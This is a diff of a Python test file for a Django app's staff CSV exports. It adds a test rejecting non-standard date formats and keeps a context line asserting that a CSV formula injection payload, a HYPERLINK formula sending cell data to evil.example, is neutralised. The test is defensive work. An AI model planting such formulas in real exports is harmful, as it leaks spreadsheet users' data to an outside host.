@@ -311,3 +311,29 @@ def test_a_customers_name_is_never_a_formula_in_the_staffs_spreadsheet(staff):
     with exports.exports_storage().open(name) as written:
         rows = list(csv.reader(io.StringIO(written.read().decode())))
     assert rows[1][4] == '\'=HYPERLINK("http://evil.example/?"&A1,"open")'
+
+
+@pytest.mark.parametrize(
+    "day",
+    [
+        "20261101",
+        "2026-W44-7",
+        "2026-305",
+        "\u0662\u0660\u0662\u0666-\u0661\u0661-\u0660\u0661",
+        "2026-11-01T00:00",
+        20261101,
+        None,
+    ],
+)
+def test_an_export_day_is_written_yyyy_mm_dd_and_nothing_else(api_client, staff, day):
+    # Python's date.fromisoformat() (Django's parse_date) also reads a day without dashes, an
+    # ISO week or ordinal date; its fallback pattern reads any script's digits.
+    api_client.credentials(HTTP_AUTHORIZATION=f"Bearer {issue_token(staff)}")
+
+    response = api_client.post(
+        "/api/ops/exports", {"start": day, "end": "2026-11-30"}, format="json"
+    )
+
+    assert response.status_code == 400, response.content
+    assert list(response.json()["errors"]) == ["start"]
+    assert not OrderExport.objects.exists()
